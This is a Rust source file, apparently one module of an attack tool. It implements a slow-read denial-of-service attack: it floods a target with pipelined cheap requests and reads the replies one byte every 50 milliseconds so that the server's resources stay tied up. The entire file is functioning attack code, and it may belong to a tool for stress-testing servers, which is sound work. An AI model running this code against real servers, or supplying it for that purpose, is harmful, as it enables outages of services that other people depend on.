//! Valid requests whose answers are read one byte at a time.

use super::Attacker;
use crate::wire::cheap_request;
use std::io;
use std::time::Duration;
use tokio::io::AsyncReadExt;
use tokio::time::sleep;

/// The time between two bytes.
const PAUSE: Duration = Duration::from_millis(50);

pub(super) async fn attack(attacker: &Attacker) -> io::Result<()> {
    let (mut reader, mut writer) = attacker.connect().await?.into_split();
    let requests = cheap_request(&attacker.target).repeat(100);
    let sending = async { while attacker.send(&mut writer, &requests).await.is_ok() {} };
    let reading = async {
        let mut byte = [0];
        while matches!(reader.read(&mut byte).await, Ok(1..)) {
            sleep(PAUSE).await;
        }
    };
    // A server that stops reading is read from to the end, slowly.
    tokio::join!(sending, reading);
    Ok(())
}
